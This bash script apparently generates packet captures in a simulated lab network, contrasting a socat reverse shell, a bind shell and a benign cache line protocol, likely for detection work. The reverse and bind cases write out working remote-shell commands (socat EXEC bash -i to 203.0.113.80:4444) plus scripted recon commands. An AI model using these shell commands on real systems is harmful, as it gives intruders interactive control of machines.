#!/bin/bash
# A shell over a bare connection, and what looks like one: shell.sh [reverse|bound|honest]
# reverse: socat on the victim ties bash and a terminal to a connection to 203.0.113.80, port 4444, as after an exploit; bound: a shell
# that listens. honest: a service with a line protocol of its own, that answers each question with a line (a cache's statistics).
. "$(dirname "$0")/lib.sh"
needs socat
router
typed() { local line; for line in "$@"; do sleep 1; printf '%s\n' "$line"; done; sleep 2; }
orders=('id' 'uname -a' 'cd /tmp' 'ls -la /etc/hosts' 'cat /etc/hostname' 'exit')
case ${1:-reverse} in
reverse)
	host intruder 203.0.113.80; host victim 10.20.2.80
	tap victim shell-reverse.pcap
	typed "${orders[@]}" | in_ intruder socat -t 3 TCP-LISTEN:4444,reuseaddr STDIO >"$TMP/o" 2>&1 &
	listening intruder 4444
	in_ victim env -i PATH="$PATH" HOME=/tmp TERM=dumb HISTFILE=/dev/null socat TCP:203.0.113.80:4444 EXEC:'bash --norc -i',pty,stderr,setsid,ctty,sane >"$TMP/v" 2>&1 || true
	save shell-reverse.pcap
	;;
bound)
	host intruder 203.0.113.80; host victim 10.20.2.80
	background victim env -i PATH="$PATH" HOME=/tmp HISTFILE=/dev/null socat TCP-LISTEN:4444,reuseaddr EXEC:'sh -i',stderr
	listening victim 4444
	tap victim shell-bound.pcap
	typed "${orders[@]}" | in_ intruder socat -t 3 STDIO TCP:10.20.2.80:4444 >"$TMP/o" 2>&1 || true
	save shell-bound.pcap
	;;
honest)
	host client 10.20.1.30; host cache 10.20.2.70
	cat >"$TMP/service" <<-'SH'
		#!/bin/bash
		n=0
		echo 'ready'
		while read -r verb key rest; do
			n=$((n + 1))
			case $verb in
			get*) echo "VALUE $key 3"; echo 'yes'; echo 'END' ;;
			stats*) echo "STAT uptime $SECONDS"; echo "STAT asked $n"; echo 'END' ;;
			quit*) exit ;;
			*) echo 'ERROR unknown verb' ;;
			esac
		done
	SH
	chmod +x "$TMP/service"
	background cache socat TCP-LISTEN:7000,reuseaddr,fork EXEC:"$TMP/service"
	listening cache 7000
	tap cache shell-honest.pcap
	for round in 1 2 3; do
		typed 'get basket:1' stats "get basket:$round" help quit | in_ client socat -t 3 STDIO TCP:10.20.2.70:7000 >"$TMP/o" 2>&1 || true
	done
	save shell-honest.pcap
	;;
*) refuse "unknown kind: $1" ;;
esac
